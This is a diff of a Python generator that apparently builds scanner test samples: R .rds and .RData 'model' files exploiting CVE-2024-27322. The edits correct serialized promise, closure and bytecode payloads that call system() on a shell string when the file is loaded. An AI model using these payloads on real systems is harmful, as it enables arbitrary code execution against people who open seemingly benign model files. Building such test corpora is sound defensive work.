@@ -164,9 +164,9 @@ def _r_text(value: str) -> bytes:
 def _r() -> Iterator[Sample]:
     nil, base = struct.pack(">i", 254), struct.pack(">i", 253)
     call = struct.pack(">i", 6) + _r_symbol("system") + struct.pack(">i", 2) + _r_text(SHELL) + nil
-    promise = struct.pack(">i", 5) + struct.pack(">i", 253)[:0] + nil[:0] + base + nil[:0] + struct.pack(">i", 252)[:0] + struct.pack(">i", 251) + call
-    closure = struct.pack(">i", 3) + base + nil + call
-    bytecode = struct.pack(">i", 21) + struct.pack(">i", 1) + call
+    promise = struct.pack(">i", 5 | 0x400) + base + struct.pack(">i", 252) + call
+    closure = struct.pack(">i", 3 | 0x400) + base + nil + call
+    bytecode = struct.pack(">iiii", 21, 1, 13, 2) + struct.pack(">iiii", 12, 1, 1, 16) + _r_text(SHELL)
     rows = {
         "promise": _r_object(promise), "closure": _r_object(closure), "call": _r_object(call), "bytecode": _r_object(bytecode),
         "promise-in-a-list": _r_object(struct.pack(">ii", 19, 1), promise), "promise-in-an-attribute": _r_object(struct.pack(">ii", 0x200 | 13, 0), struct.pack(">i", 2 | 0x400), _r_symbol("x"), promise, nil),
@@ -179,7 +179,7 @@ def _r() -> Iterator[Sample]:
     yield file("r", "rdata", "model.RData", gzip.compress(b"RDX3\n" + rows["promise"], mtime=0), "CVE-2024-27322", **STATIC)
     yield file("r", "xz", "model.rds", lzma.compress(rows["promise"]), "CVE-2024-27322", **STATIC)
     yield file("r", "bz2", "model.rds", bz2.compress(rows["closure"]), "CVE-2024-27322", **STATIC)
-    ascii_ = f"A\n3\n262913\n197888\n5\nUTF-8\n5\n253\n251\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n{len(SHELL)}\n{SHELL}\n254\n"
+    ascii_ = f"A\n3\n262913\n197888\n5\nUTF-8\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n{len(SHELL)}\n{SHELL}\n254\n"
     yield file("r", "ascii", "model.rds", ascii_.encode(), "CVE-2024-27322", **STATIC)
 
 
